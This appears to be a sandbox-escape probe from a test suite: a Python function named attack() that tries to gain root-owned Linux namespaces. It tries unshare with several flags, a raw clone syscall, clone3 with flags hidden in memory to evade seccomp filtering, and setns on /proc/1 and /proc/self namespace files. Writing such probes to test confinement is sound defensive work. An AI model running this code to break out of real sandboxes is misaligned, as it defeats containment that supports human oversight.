# Makes namespaces of its own, in which it would be root.
def attack():
    import ctypes
    import platform
    import posix

    libc = ctypes.CDLL(None)
    flags = (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000, 0x00000080)
    for flag in flags:
        if libc.unshare(flag) == 0 or libc.unshare(flag | 0x10000000) == 0:
            return True
    number = {"x86_64": 56}.get(platform.machine(), 220)
    for flag in flags:
        pid = libc.syscall(number, flag | 17, 0, 0, 0, 0)
        if pid == 0:
            posix._exit(0)
        if pid > 0:
            return True
    # clone3 takes its flags from memory, where no filter can see them
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    pid = libc.syscall(435, arguments, ctypes.sizeof(arguments))
    if pid == 0:
        posix._exit(0)
    if pid > 0:
        return True
    for name in ("user", "mnt", "pid", "net"):
        for process in ("1", "self"):
            try:
                handle = posix.open(f"/proc/{process}/ns/{name}", posix.O_RDONLY)
            except OSError:
                continue
            if libc.setns(handle, 0) == 0:
                return True
    return False
